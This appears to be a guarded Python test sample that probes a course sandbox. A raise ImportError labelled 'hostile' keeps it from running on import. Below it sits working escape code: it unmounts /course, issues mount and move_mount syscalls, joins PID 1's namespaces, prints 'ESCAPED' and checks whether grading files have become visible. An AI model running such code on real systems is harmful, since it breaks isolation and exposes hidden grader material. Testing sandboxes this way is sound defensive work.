# Takes away what covers the course's folder, by every call that moves mounts.
# honest: 16
# verdict: ok
# stock: no (without a sandbox it would read what is nobody's business)
raise ImportError("hostile: this runs in the sandbox only, cell by cell")
# %% last
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.umount2(b"/course", 2), libc.umount2(b"/course", 8)
libc.mount(b"/", b"/tmp", None, 4096 | 16384, None)
libc.mount(None, b"/course", None, 32, None)
for number in (165, 166, 155, 428, 429, 430, 432, 442, 467):  # mount … open_tree, move_mount, fsopen
    libc.syscall(number, -100, b"/course", -100, b"/tmp", 0)
for kind in ("mnt", "user", "pid", "net", "ipc", "cgroup"):
    for process in ("1", "self"):
        try:
            where = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            if libc.setns(where, 0) == 0 and kind != "user" and kind != "time":
                print("ESC" + "APED", kind)
        except OSError:
            pass
if set(os.listdir("/course/cnncourse")) & {"operations.py", "grading", "site"}:
    print("ESC" + "APED")
